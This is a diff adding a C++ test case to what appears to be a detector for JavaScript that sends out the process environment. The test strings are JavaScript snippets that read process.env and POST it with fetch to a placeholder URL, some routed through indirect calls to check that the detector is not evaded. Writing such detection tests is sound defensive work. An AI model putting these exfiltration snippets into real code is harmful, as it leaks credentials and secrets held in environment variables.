@@ -34,6 +34,16 @@ TEST(CodeEnvironment, OneVariableIsNotTheEnvironment) {
     EXPECT_FALSE(sends(code)) << code;
 }
 
+TEST(CodeEnvironment, WhatIsCalledIsNoVariableOfIt) {
+  for (const char* const code :
+       {"async function env() { return process.env } env().then(e => { fetch(u, {method: 'POST', body: "
+        "JSON.stringify(e)}) });",
+        "async function env() { return process.env } env()['then'](e => { fetch(u, {method: 'POST', body: "
+        "JSON.stringify(e)}) });",
+        "const e = process.env, q = e.valueOf(); fetch(u, {method: 'POST', body: JSON.stringify(q)});"})
+    EXPECT_TRUE(sends(code)) << code;
+}
+
 TEST(CodeEnvironment, TheWholeOfItIsSent) {
   for (const char* const code :
        {"fetch(u, { method: 'POST', body: JSON.stringify(process.env) })",
